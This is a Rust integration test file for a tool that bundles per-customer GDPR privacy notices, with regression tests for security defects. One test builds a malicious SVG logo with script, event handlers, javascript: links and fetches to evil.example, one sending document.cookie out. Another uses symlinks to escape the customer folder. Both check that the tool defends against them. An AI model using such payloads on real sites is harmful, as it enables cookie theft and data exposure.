//! `seloste bundle` end to end on a small vendor: layout per customer,
//! languages, isolation of a failing customer, byte-identical zips, shards.

use std::path::Path;
use std::process::Output;

use crate::common::{self, output, root, seloste, tree};

/// A copy of the fixture vendor in a temporary folder, so tests can edit it.
fn vendor() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp");
    for sub in ["services", "customers"] {
        let from = root().join("tests/fixtures/bundle").join(sub);
        std::fs::create_dir(dir.path().join(sub)).expect("mkdir");
        for e in std::fs::read_dir(&from).expect("fixture") {
            let e = e.expect("entry");
            std::fs::copy(e.path(), dir.path().join(sub).join(e.file_name())).expect("copy");
        }
    }
    dir
}

fn bundle(dir: &Path, extra: &[&str]) -> Output {
    let mut args = vec![
        "bundle",
        "services",
        "--customers",
        "customers",
        "--out",
        "out",
    ];
    args.extend_from_slice(extra);
    seloste(dir, &args)
}

#[test]
fn each_customer_gets_its_languages_a_manifest_and_a_zip() {
    let v = vendor();
    let o = bundle(v.path(), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
    let files: Vec<String> = tree(&v.path().join("out")).into_keys().collect();
    // The bilingual municipality gets fi and sv, the Swedish one sv only,
    // the university all three.
    let mut expected = vec![".seloste-bundles".to_string()];
    for (customer, langs) in [
        ("alpha", &["fi", "sv"][..]),
        ("beta", &["sv"]),
        ("gamma", &["en", "fi", "sv"]),
    ] {
        expected.push(format!("{customer}.zip"));
        expected.push(format!("{customer}/.seloste-output"));
        for lang in langs {
            for file in [
                "index.html",
                "pupil-accounts.html",
                "pupil-accounts.md",
                "pupil-accounts.print.html",
            ] {
                expected.push(format!("{customer}/{lang}/{file}"));
            }
            // The customer's processor record (Art. 30(2)), per language.
            for ext in ["csv", "html", "md", "xlsx"] {
                expected.push(format!("{customer}/records/processor-record.{lang}.{ext}"));
            }
        }
        expected.push(format!("{customer}/manifest.json"));
        // The page that chooses the language.
        expected.push(format!("{customer}/index.html"));
    }
    expected.sort();
    assert_eq!(files, expected);
    // The local addition is in the Swedish municipality's notice only.
    let beta =
        std::fs::read_to_string(v.path().join("out/beta/sv/pupil-accounts.html")).expect("beta");
    assert!(beta.contains("Skolskjuts Ab"));
    let alpha =
        std::fs::read_to_string(v.path().join("out/alpha/sv/pupil-accounts.html")).expect("alpha");
    assert!(!alpha.contains("Skolskjuts Ab"));
    assert!(
        alpha.contains("Alfa kommun"),
        "the customer is the controller"
    );
    // The fragment's shared text is in every notice.
    assert!(alpha.contains("datacenter i Finland"));
    assert!(
        alpha.contains("background-color: #005a9c"),
        "the customer's brand colour"
    );
    assert!(
        !beta.contains("background-color"),
        "no colour without branding"
    );
}

#[test]
fn the_manifest_lists_every_file_with_its_digest() {
    let v = vendor();
    assert_eq!(bundle(v.path(), &[]).status.code(), Some(0));
    let out = tree(&v.path().join("out/alpha"));
    let manifest: serde_json::Value = serde_json::from_slice(&out["manifest.json"]).expect("json");
    assert_eq!(manifest["customer"], "alpha");
    assert_eq!(manifest["languages"], serde_json::json!(["fi", "sv"]));
    assert_eq!(manifest["notices"][0]["id"], "pupil-accounts");
    assert_eq!(manifest["notices"][0]["version"], "1.0");
    let listed = manifest["files"].as_array().expect("files");
    // Every file but the manifest and seloste's own marker is listed.
    assert_eq!(listed.len(), out.len() - 2);
    for f in listed {
        let path = f["path"].as_str().expect("path");
        let bytes = &out[path];
        assert_eq!(f["sha256"], seloste::bundle::sha256_hex(bytes), "{path}");
        assert_eq!(f["bytes"], bytes.len());
    }
}

#[test]
fn two_runs_give_byte_identical_zips() {
    let v = vendor();
    assert_eq!(bundle(v.path(), &[]).status.code(), Some(0));
    let first = tree(&v.path().join("out"));
    std::fs::remove_dir_all(v.path().join("out")).expect("clean");
    assert_eq!(bundle(v.path(), &[]).status.code(), Some(0));
    let second = tree(&v.path().join("out"));
    assert_eq!(
        first.keys().collect::<Vec<_>>(),
        second.keys().collect::<Vec<_>>()
    );
    for (path, bytes) in &first {
        assert!(&second[path] == bytes, "{path} differs");
    }
}

/// The fleet issue's zips compress the sections customers share once per
/// run: each zip still holds exactly its folder's files, and a customer's
/// zip is the same bytes whether its sections' compressed form came from
/// the other customers (the whole fleet) or not (`--only`).
#[test]
fn a_zip_holds_its_folder_and_does_not_depend_on_the_other_customers() {
    let v = vendor();
    assert_eq!(bundle(v.path(), &[]).status.code(), Some(0));
    let out = v.path().join("out");
    for customer in ["alpha", "beta", "gamma"] {
        let folder = tree(&out.join(customer));
        let zip = std::fs::read(out.join(format!("{customer}.zip"))).expect("zip");
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip)).expect("a zip");
        let mut held = 0;
        for (path, bytes) in &folder {
            if path.starts_with('.') {
                continue;
            }
            held += 1;
            let mut entry = archive
                .by_name(&format!("{customer}/{path}"))
                .unwrap_or_else(|e| panic!("{customer}/{path}: {e}"));
            let mut read = Vec::new();
            std::io::Read::read_to_end(&mut entry, &mut read).expect("read");
            assert!(&read == bytes, "{customer}/{path} differs in the zip");
        }
        assert_eq!(archive.len(), held, "{customer}: the zip holds more");
    }
    let fleet = std::fs::read(out.join("gamma.zip")).expect("zip");
    std::fs::remove_dir_all(&out).expect("clean");
    assert_eq!(
        bundle(v.path(), &["--only", "gamma"]).status.code(),
        Some(0)
    );
    let alone = std::fs::read(out.join("gamma.zip")).expect("zip");
    assert!(fleet == alone, "gamma's zip depends on the other customers");
}

/// Guards the issue's acceptance test: a customer without its DPO fails
/// alone, with the diagnostic in its own file, and nothing partial is left.
#[test]
fn a_customer_without_a_dpo_fails_alone() {
    let v = vendor();
    assert_eq!(bundle(v.path(), &[]).status.code(), Some(0));
    let before_alpha = tree(&v.path().join("out/alpha"));
    let zip_before = std::fs::read(v.path().join("out/alpha.zip")).expect("zip");
    let path = v.path().join("customers/alpha.toml");
    let text = std::fs::read_to_string(&path).expect("read");
    std::fs::write(
        &path,
        text.replace("[dpo]\nemail = \"tietosuoja@alfa.example\"\n", ""),
    )
    .expect("write");
    // And a change to the shared service that the others pick up.
    let o = bundle(v.path(), &[]);
    assert_eq!(o.status.code(), Some(1), "{}", output(&o));
    let out = output(&o);
    assert!(out.contains("error[G003]"), "{out}");
    assert!(out.contains("--> customers/alpha.toml:"), "{out}");
    assert!(
        out.contains(
            "not built because of the findings above (any previous output of theirs is untouched): alpha"
        ),
        "{out}"
    );
    assert!(out.contains("built 2 of 3 customers"), "{out}");
    // The failing customer's previous bundle is untouched, the others built.
    assert_eq!(tree(&v.path().join("out/alpha")), before_alpha);
    assert_eq!(
        std::fs::read(v.path().join("out/alpha.zip")).expect("zip"),
        zip_before
    );
    assert!(v.path().join("out/beta/sv/pupil-accounts.html").exists());
    let leftovers: Vec<_> = std::fs::read_dir(v.path().join("out"))
        .expect("out")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.') && n != ".seloste-bundles")
        .collect();
    assert!(leftovers.is_empty(), "temporary files left: {leftovers:?}");
}

#[test]
fn shards_cover_every_customer_exactly_once() {
    let mut seen = Vec::new();
    for k in 1..=2 {
        let v = vendor();
        let shard = format!("{k}/2");
        let o = bundle(v.path(), &["--shard", &shard]);
        assert_eq!(o.status.code(), Some(0), "{}", output(&o));
        for e in std::fs::read_dir(v.path().join("out")).expect("out") {
            let name = e.expect("entry").file_name().to_string_lossy().into_owned();
            if let Some(id) = name.strip_suffix(".zip") {
                seen.push(id.to_string());
            }
        }
    }
    seen.sort();
    assert_eq!(seen, ["alpha", "beta", "gamma"]);
    for bad in ["0/2", "3/2", "1/0", "x"] {
        let v = vendor();
        assert_eq!(
            bundle(v.path(), &["--shard", bad]).status.code(),
            Some(2),
            "{bad}"
        );
    }
}

#[test]
fn only_builds_the_named_customers() {
    let v = vendor();
    let o = bundle(v.path(), &["--only", "beta"]);
    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
    assert!(v.path().join("out/beta.zip").exists());
    assert!(!v.path().join("out/alpha.zip").exists());
    let o = bundle(v.path(), &["--only", "nobody"]);
    assert_eq!(o.status.code(), Some(2), "{}", output(&o));
}

#[test]
fn composition_errors_are_located() {
    let v = vendor();
    let path = v.path().join("services/pupil-register.toml");
    let text = std::fs::read_to_string(&path).expect("read");
    std::fs::write(
        &path,
        text.replace("extends = \"vendor-common\"", "extends = \"vendor-comon\""),
    )
    .expect("write");
    let o = seloste(v.path(), &["check", "services"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        output(&o).contains("did you mean `vendor-common`?"),
        "{}",
        output(&o)
    );
    // A cycle between two fragments.
    std::fs::write(&path, text).expect("restore");
    let common = v.path().join("services/common.toml");
    let c = std::fs::read_to_string(&common).expect("read");
    std::fs::write(
        &common,
        c.replace("fragment = true", "fragment = true\nextends = \"loop\""),
    )
    .expect("write");
    std::fs::write(
        v.path().join("services/loop.toml"),
        "id = \"loop\"\nfragment = true\nextends = \"vendor-common\"\n",
    )
    .expect("write");
    let o = seloste(v.path(), &["check", "services"]);
    assert_eq!(o.status.code(), Some(1), "{}", output(&o));
    assert!(output(&o).contains("error[L009]"), "{}", output(&o));
}

#[test]
fn build_leaves_service_notices_to_bundle() {
    let v = vendor();
    let o = seloste(v.path(), &["build", "services", "--out", "site"]);
    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
    assert!(output(&o).contains("published per customer by `seloste bundle`"));
    assert!(!v.path().join("site/fi/pupil-accounts.html").exists());
}

/// The README's vendor example builds, each customer in its languages.
#[test]
fn the_vendor_example_bundles() {
    let dir = tempfile::tempdir().expect("temp");
    let out = dir.path().join("bundles");
    let o = seloste(
        &root(),
        &[
            "bundle",
            "examples/vendor/services",
            "--customers",
            "examples/vendor/customers",
            "--out",
            out.to_str().expect("utf-8"),
            "--deny-warnings",
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
    let langs = |customer: &str| -> Vec<String> {
        let mut l: Vec<String> = std::fs::read_dir(out.join(customer))
            .expect("customer folder")
            .map(|e| e.expect("entry"))
            .filter(|e| e.path().is_dir() && e.file_name() != "records")
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        l.sort();
        l
    };
    assert_eq!(langs("esimerkkila"), ["fi", "sv"]);
    assert_eq!(langs("exempelstad"), ["sv"]);
    a_shared_services_findings_are_reported_once(&o);
    assert_eq!(langs("esimerkki-amk"), ["en", "fi", "sv"]);
    // The logo is copied into the bundle and shown from there.
    assert!(out.join("esimerkkila/logo.svg").is_file());
    let page = std::fs::read_to_string(out.join("esimerkkila/fi/opinsys-user-management.html"))
        .expect("page");
    assert!(page.contains("src=\"../logo.svg\""), "logo not shown");
    processor_records_are_in_the_folder_manifest_and_zip(&out);
}

/// Regression: every customer is checked with the shared services, and a
/// finding in a service file was printed once per customer (three times in
/// this example, two hundred times in a real fleet).
fn a_shared_services_findings_are_reported_once(o: &std::process::Output) {
    let stderr = String::from_utf8_lossy(&o.stderr);
    let lines: Vec<&str> = stderr.lines().collect();
    let mut seen = std::collections::BTreeSet::new();
    for pair in lines.windows(2) {
        let (head, place) = (pair[0], pair[1].trim_start());
        if head.contains("]: ") && place.starts_with("--> ") {
            assert!(
                seen.insert((head, place)),
                "reported twice: {head} {place}\n{stderr}"
            );
        }
    }
    assert!(
        !seen.is_empty(),
        "the example has findings to report:\n{stderr}"
    );
}

/// The vendor example's bundles carry each customer's processor record
/// (Art. 30(2)): a workbook that a spreadsheet reader opens, with a row
/// per service naming the vendor as processor and the customer as
/// controller, listed in the manifest and packed in the zip.
fn processor_records_are_in_the_folder_manifest_and_zip(out: &std::path::Path) {
    use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
    let bytes = std::fs::read(out.join("esimerkkila/records/processor-record.fi.xlsx"))
        .expect("the processor record");
    let mut book: Xlsx<_> =
        open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("an XLSX workbook");
    let names = book.sheet_names().to_vec();
    assert_eq!(
        names,
        [
            "Yhteenveto",
            "opinsys-user-management",
            "opinsys-koejakaja",
            "opinsys-home-folders"
        ]
    );
    // Regression: the summary's header lacked the service column's heading,
    // so every heading after the first stood over the wrong column.
    let summary = book.worksheet_range("Yhteenveto").expect("summary");
    let header: Vec<String> = summary
        .rows()
        .next()
        .map(|r| r.iter().map(ToString::to_string).collect())
        .unwrap_or_default();
    let first_row: Vec<Data> = summary
        .rows()
        .nth(1)
        .map(<[Data]>::to_vec)
        .unwrap_or_default();
    assert_eq!(header.len(), 4, "{header:?}");
    assert!(header.iter().all(|h| !h.is_empty()), "{header:?}");
    assert_eq!(first_row.len(), 4, "{first_row:?}");
    assert!(
        matches!(first_row[2], Data::Float(n) if n >= 1.0),
        "{first_row:?}"
    );
    let sheet = book.worksheet_range("opinsys-koejakaja").expect("sheet");
    let service_heading = sheet
        .get_value((0, 1))
        .map(ToString::to_string)
        .unwrap_or_default();
    assert_eq!(header[1], service_heading, "the summary names the services");
    let rows: Vec<Vec<String>> = sheet
        .rows()
        .map(|r| {
            r.iter()
                .map(|c| match c {
                    Data::String(s) => s.clone(),
                    _ => String::new(),
                })
                .collect()
        })
        .collect();
    assert_eq!(rows.len(), 2, "a header and one row for the service");
    let column = |prefix: &str| {
        rows[0]
            .iter()
            .position(|h| h.starts_with(prefix))
            .unwrap_or_else(|| panic!("no column {prefix}: {:?}", rows[0]))
    };
    let row = &rows[1];
    assert!(row[column("Henkilötietojen käsittelijä")].starts_with("Opinsys Oy"));
    assert!(row[column("Rekisterinpitäjä")].starts_with("Esimerkkilän kaupunki"));
    assert!(
        row[column("Rekisterinpitäjän lukuun")].contains("• kokeiden jakaminen"),
        "{row:?}"
    );
    assert!(!row[column("Tekniset")].is_empty());
    let manifest =
        std::fs::read_to_string(out.join("esimerkkila/manifest.json")).expect("manifest");
    for lang in ["fi", "sv"] {
        for ext in ["csv", "html", "md", "xlsx"] {
            let path = format!("records/processor-record.{lang}.{ext}");
            assert!(
                manifest.contains(&format!("\"{path}\"")),
                "{path} not in the manifest"
            );
        }
    }
    let zip = std::fs::read(out.join("esimerkkila.zip")).expect("zip");
    let archive = zip::ZipArchive::new(std::io::Cursor::new(zip)).expect("a zip");
    assert!(
        archive
            .file_names()
            .any(|n| n.is_ok_and(|n| n == "esimerkkila/records/processor-record.fi.xlsx")),
        "the record is in the zip"
    );
}

// ---------------------------------------------------------------------------
// Regression tests for the defects an outside attack found: each is named
// after its number in the report and failed before its fix.

#[test]
fn defect_1_a_customer_file_that_cannot_be_read_is_reported_and_fails_the_run() {
    let v = vendor();
    let customers = v.path().join("customers");
    std::fs::write(
        customers.join("broken.toml"),
        "id = \"broken\"\nservices = [\n",
    )
    .unwrap();
    std::fs::write(customers.join("empty.toml"), "").unwrap();
    std::fs::write(customers.join("latin1.toml"), b"id = \"latin\xe4\"\n").unwrap();
    let o = bundle(v.path(), &[]);
    let said = output(&o);
    assert_eq!(o.status.code(), Some(1), "{said}");
    for (file, code) in [
        ("broken.toml", "error[L001]"),
        ("empty.toml", "error[L004]"),
        ("latin1.toml", "error[L002]"),
    ] {
        let at = said
            .find(&format!("customers/{file}:"))
            .unwrap_or_else(|| panic!("{file} is not located:\n{said}"));
        assert!(said[..at].rfind(code).is_some(), "{file}: {code}\n{said}");
    }
    assert!(
        said.contains("built 3 of 6 customers"),
        "the broken files count as customers:\n{said}"
    );
    assert!(
        said.contains(
            "not built because of the findings above (any previous output of theirs is untouched): customers/broken.toml, customers/empty.toml, customers/latin1.toml"
        ),
        "{said}"
    );
    // The others are built all the same.
    assert!(v.path().join("out/alpha.zip").is_file());
}

#[test]
fn defect_1_broken_services_fail_the_run_even_without_a_loadable_customer() {
    let v = vendor();
    let customers = v.path().join("customers");
    for e in std::fs::read_dir(&customers).unwrap() {
        std::fs::write(e.unwrap().path(), "not toml = = =\n").unwrap();
    }
    std::fs::write(
        v.path().join("services/pupil-register.toml"),
        "id = [unclosed\n",
    )
    .unwrap();
    let o = bundle(v.path(), &[]);
    let said = output(&o);
    assert_eq!(o.status.code(), Some(1), "{said}");
    assert!(said.contains("services/pupil-register.toml:1:"), "{said}");
    assert!(
        said.contains("error: the service notices have errors (above), so no customer was built"),
        "{said}"
    );
    assert!(said.contains("built 0 of 3 customers"), "{said}");
    assert!(tree(&v.path().join("out")).is_empty());
}

#[test]
fn defect_6_duplicate_services_and_languages_are_located_errors() {
    let v = vendor();
    let mut text = String::from(
        "id = \"delta\"\nlanguages = [\"fi\", \"sv\", \"fi\"]\nservices = [\n  \"pupil-accounts\",\n",
    );
    // Many duplicates: each is reported once, and binding does not grow
    // with them (it once took 43 s and 2.5 GB for 20,000).
    for _ in 0..2000 {
        text.push_str("  \"pupil-accounts\",\n");
    }
    text.push_str("]\n[controller]\nname = \"Delta\"\npublic_authority = true\nemail = \"a@delta.example\"\n[dpo]\nemail = \"dpo@delta.example\"\n");
    std::fs::write(v.path().join("customers/delta.toml"), text).unwrap();
    let o = bundle(v.path(), &[]);
    let said = output(&o);
    assert_eq!(o.status.code(), Some(1), "{said}");
    assert!(!said.contains("Duplicate filename"), "{said}");
    assert!(
        said.contains("error[Q010]: `fi` is listed twice in `languages`"),
        "{said}"
    );
    assert!(said.contains("customers/delta.toml:2:26"), "{said}");
    assert_eq!(
        said.matches("error[Q010]: `pupil-accounts` is listed twice in `services`")
            .count(),
        2000,
        "one diagnostic per second entry"
    );
    assert!(said.contains("customers/delta.toml:5:3"), "{said}");
    assert!(said.contains("not built because of the findings above (any previous output of theirs is untouched): delta"), "{said}");
}

#[test]
fn defect_11_a_customer_without_an_id_is_named_by_its_file() {
    let v = vendor();
    let alpha = std::fs::read_to_string(v.path().join("customers/alpha.toml")).unwrap();
    std::fs::write(
        v.path().join("customers/alpha.toml"),
        alpha.replace("id = \"alpha\"\n", ""),
    )
    .unwrap();
    let o = bundle(v.path(), &[]);
    let said = output(&o);
    assert_eq!(o.status.code(), Some(1), "{said}");
    assert!(said.contains("the customer has no `id`"), "{said}");
    assert!(
        said.contains("(any previous output of theirs is untouched): customers/alpha.toml"),
        "{said}"
    );
}

#[test]
fn defect_12_a_failure_after_the_folder_was_replaced_does_not_claim_the_previous_output_was_kept() {
    let v = vendor();
    let o = bundle(v.path(), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
    // The zip cannot be replaced (a folder now stands in its place), and
    // that is found only after the customer's folder was swapped in.
    let zip = v.path().join("out/alpha.zip");
    std::fs::remove_file(&zip).unwrap();
    std::fs::create_dir(&zip).unwrap();
    std::fs::write(zip.join("keep"), "x").unwrap();
    let o = bundle(v.path(), &[]);
    let said = output(&o);
    assert_eq!(o.status.code(), Some(1), "{said}");
    assert!(
        said.contains("error: customer `alpha`: the folder")
            && said.contains("was replaced, but the zip could not be"),
        "{said}"
    );
    assert!(!said.contains("previous output kept"), "{said}");
    assert!(
        said.contains("failed while writing (see each message for what was replaced): alpha"),
        "{said}"
    );
}

#[test]
fn defect_12_a_failure_before_anything_was_replaced_says_so() {
    let v = vendor();
    // A foreign zip beside no seloste folder is refused before the
    // customer's folder is touched.
    std::fs::create_dir(v.path().join("out")).unwrap();
    std::fs::write(v.path().join("out/.seloste-bundles"), "").unwrap();
    std::fs::write(v.path().join("out/alpha.zip"), "not ours").unwrap();
    let o = bundle(v.path(), &[]);
    let said = output(&o);
    assert_eq!(o.status.code(), Some(1), "{said}");
    assert!(
        said.contains("was not written by seloste; refusing to replace it (nothing was replaced: the previous bundle is kept)"),
        "{said}"
    );
    assert_eq!(
        std::fs::read(v.path().join("out/alpha.zip")).unwrap(),
        b"not ours"
    );
}

#[test]
fn defect_13_bundle_refuses_an_output_folder_it_did_not_write() {
    let v = vendor();
    let foreign = v.path().join("foreign");
    std::fs::create_dir(&foreign).unwrap();
    std::fs::write(foreign.join("notes.txt"), "mine").unwrap();
    let before = tree(&foreign);
    let o = seloste(
        v.path(),
        &[
            "bundle",
            "services",
            "--customers",
            "customers",
            "--out",
            "foreign",
        ],
    );
    let said = output(&o);
    assert_eq!(o.status.code(), Some(2), "{said}");
    assert!(
        said.contains(
            "holds `notes.txt`, which seloste did not write; refusing to write bundles into it"
        ),
        "{said}"
    );
    assert_eq!(tree(&foreign), before, "nothing written");

    // A bundles folder written before the marker existed (customer
    // folders and zips only) is taken over and marked.
    let o = bundle(v.path(), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
    std::fs::remove_file(v.path().join("out/.seloste-bundles")).unwrap();
    let o = bundle(v.path(), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
    assert!(v.path().join("out/.seloste-bundles").is_file());
}

/// Adds `logo = "{path}"` to alpha's `[branding]`.
fn give_alpha_logo(dir: &Path, path: &str) {
    let file = dir.join("customers/alpha.toml");
    let text = std::fs::read_to_string(&file).expect("read");
    let text: String = text
        .lines()
        .filter(|l| !l.starts_with("logo = "))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(
        &file,
        text.replacen(
            "[branding]\n",
            &format!("[branding]\nlogo = \"{path}\"\n"),
            1,
        ),
    )
    .expect("write");
}

/// The bytes of `name` in the zip at `path`.
fn zip_entry(path: &Path, name: &str) -> Vec<u8> {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).expect("zip")).expect("a zip");
    let mut bytes = Vec::new();
    zip.by_name(name)
        .expect("entry")
        .read_to_end(&mut bytes)
        .expect("read");
    bytes
}

/// Defect 4: an SVG logo was published unchanged, so opened at its own URL
/// it ran its scripts and made requests. It is published re-written.
#[test]
fn defect_4_svg_logo_is_published_sanitised() {
    let v = vendor();
    std::fs::create_dir(v.path().join("customers/logos")).expect("mkdir");
    std::fs::write(
        v.path().join("customers/logos/alpha.svg"),
        r##"<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x "<script>alert('entity')</script>">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="160" height="48" viewBox="0 0 160 48" onload="fetch('http://evil.example/1')">
  <script>fetch('http://evil.example/2?c=' + document.cookie)</script>
  <rect width="48" height="48" rx="6" fill="#005a9c" onmouseover="alert(1)"/>
  <a xlink:href="javascript:alert(2)"><path d="M10 36 L24 12 L38 36 Z" fill="#fff"/></a>
  <foreignObject width="160" height="48"><div xmlns="http://www.w3.org/1999/xhtml">&x;<img src="http://evil.example/3"/></div></foreignObject>
  <image href="http://evil.example/4.png" width="10" height="10"/>
  <use href="http://evil.example/5.svg#icon"/>
  <style>rect { fill: url(http://evil.example/6.svg#p) }</style>
</svg>
"##,
    )
    .expect("write");
    give_alpha_logo(v.path(), "logos/alpha.svg");
    let o = bundle(v.path(), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
    let published = std::fs::read(v.path().join("out/alpha/logo.svg")).expect("logo published");
    assert_eq!(
        zip_entry(&v.path().join("out/alpha.zip"), "alpha/logo.svg"),
        published,
        "the zip holds the same re-written logo"
    );
    let svg = String::from_utf8(published).expect("utf-8");
    let without_namespaces = svg
        .replace("xmlns=\"http://www.w3.org/2000/svg\"", "")
        .replace("xmlns:xlink=\"http://www.w3.org/1999/xlink\"", "");
    for bad in [
        "script",
        "onload",
        "onmouseover",
        "foreignObject",
        "javascript:",
        "http://",
        "evil",
        "<!ENTITY",
        "alert",
        "fetch",
    ] {
        assert!(
            !without_namespaces.contains(bad),
            "`{bad}` in the published logo:\n{svg}"
        );
    }
    // The shapes are kept: the rectangle and the path, nothing else.
    insta::assert_snapshot!("sanitised_svg_logo", svg);
    let page =
        std::fs::read_to_string(v.path().join("out/alpha/fi/pupil-accounts.html")).expect("page");
    assert!(page.contains("src=\"../logo.svg\""), "logo not shown");
    // Twice the same input, twice the same bytes.
    std::fs::remove_dir_all(v.path().join("out")).expect("clean");
    assert_eq!(bundle(v.path(), &[]).status.code(), Some(0));
    assert_eq!(
        std::fs::read(v.path().join("out/alpha/logo.svg")).expect("logo"),
        svg.as_bytes()
    );
}

/// An SVG logo's text would be lost in the re-written logo: it is refused.
#[test]
fn an_svg_logo_with_text_is_refused() {
    let v = vendor();
    std::fs::write(
        v.path().join("customers/alpha.svg"),
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="160" height="48"><rect width="48" height="48"/><text x="56" y="30">Alfa</text></svg>"#,
    )
    .expect("write");
    give_alpha_logo(v.path(), "alpha.svg");
    let o = bundle(v.path(), &[]);
    let out = output(&o);
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(out.contains("error[L007]"), "{out}");
    assert!(out.contains("has text"), "{out}");
    assert!(out.contains("convert the text to paths"), "{out}");
    assert!(!v.path().join("out/alpha").exists());
    assert!(
        v.path().join("out/beta.zip").exists(),
        "the others are built"
    );
}

/// Defect 5: the logo path was checked, then opened again by path, so a
/// link swapped in between published a file from outside the customer's
/// folder. It is opened once without following any link: a link on the
/// path is refused, wherever it points.
#[cfg(unix)]
#[test]
fn defect_5_logo_link_is_refused_without_following_it() {
    use std::os::unix::fs::symlink;
    const SECRET: &[u8] = b"\x89PNG\r\n\x1a\nSECRET-OUTSIDE-THE-CUSTOMER-FOLDER";
    const REAL: &[u8] = b"\x89PNG\r\n\x1a\nthe real logo";
    let v = vendor();
    let customers = v.path().join("customers");
    std::fs::create_dir(v.path().join("private")).expect("mkdir");
    std::fs::write(v.path().join("private/secret.png"), SECRET).expect("write");
    std::fs::create_dir(customers.join("logos")).expect("mkdir");
    std::fs::write(customers.join("logos/real.png"), REAL).expect("write");
    // A link out of the folder, one that stays inside, and a linked folder.
    symlink("../../private/secret.png", customers.join("logos/out.png")).expect("link");
    symlink("real.png", customers.join("logos/in.png")).expect("link");
    symlink("logos", customers.join("linked")).expect("link");
    symlink("../private", customers.join("away")).expect("link");

    for (logo, says) in [
        (
            "logos/out.png",
            "is a link; give the path of the image file itself",
        ),
        (
            "logos/in.png",
            "is a link; give the path of the image file itself",
        ),
        ("linked/real.png", "is in `linked`, which is a link"),
        ("away/secret.png", "is in `away`, which is a link"),
    ] {
        give_alpha_logo(v.path(), logo);
        let _ = std::fs::remove_dir_all(v.path().join("out"));
        let o = bundle(v.path(), &[]);
        let out = output(&o);
        assert_eq!(o.status.code(), Some(1), "{logo}: {out}");
        assert!(out.contains("error[L007]"), "{logo}: {out}");
        assert!(out.contains(says), "{logo}: {out}");
        assert!(!v.path().join("out/alpha").exists(), "{logo}: {out}");
        assert!(!v.path().join("out/alpha.zip").exists(), "{logo}: {out}");
        for (name, bytes) in common::tree(&v.path().join("out")) {
            assert!(
                !bytes.windows(SECRET.len()).any(|w| w == SECRET),
                "{logo}: out/{name} holds the file outside the folder"
            );
        }
    }
    // The file itself is published.
    give_alpha_logo(v.path(), "logos/real.png");
    let _ = std::fs::remove_dir_all(v.path().join("out"));
    let o = bundle(v.path(), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", output(&o));
    assert_eq!(
        std::fs::read(v.path().join("out/alpha/logo.png")).expect("logo"),
        REAL
    );
    assert_eq!(
        zip_entry(&v.path().join("out/alpha.zip"), "alpha/logo.png"),
        REAL
    );
}

/// A customer states its own basis for a service's purpose: the statement
/// is checked against the service (a misspelt purpose is an error in the
/// customer's file, with the nearest id), and what the stated basis needs
/// (legitimate interests) is asked for at the statement, not in the
/// vendor's file, which the customer cannot change.
#[test]
fn a_customer_statement_is_checked_in_the_customers_file() {
    let v = vendor();
    let beta = v.path().join("customers/beta.toml");
    let mut text = std::fs::read_to_string(&beta).expect("beta");
    text.push_str(
        "\n[[additions]]\nservice = \"pupil-accounts\"\n\n[[additions.purposes]]\npurpose = \"acounts\"\nlegal_basis = \"contract\"\n",
    );
    std::fs::write(&beta, &text).expect("write");
    let o = bundle(v.path(), &[]);
    let said = output(&o);
    assert_eq!(o.status.code(), Some(1), "{said}");
    assert!(
        said.contains("error[Q011]: `acounts` is not a purpose of `pupil-accounts`"),
        "{said}"
    );
    assert!(said.contains("did you mean `accounts`?"), "{said}");
    assert!(said.contains("customers/beta.toml:"), "{said}");

    let text = text.replace(
        "purpose = \"acounts\"\nlegal_basis = \"contract\"",
        "purpose = \"accounts\"\nlegal_basis = \"legitimate-interests\"",
    );
    std::fs::write(&beta, &text).expect("write");
    let o = bundle(v.path(), &[]);
    let said = output(&o);
    assert_eq!(o.status.code(), Some(1), "{said}");
    let g005: Vec<&str> = said
        .lines()
        .skip_while(|l| !l.starts_with("error[G005]"))
        .take(2)
        .collect();
    assert_eq!(g005.len(), 2, "{said}");
    assert!(g005[1].contains("customers/beta.toml:"), "{said}");
}
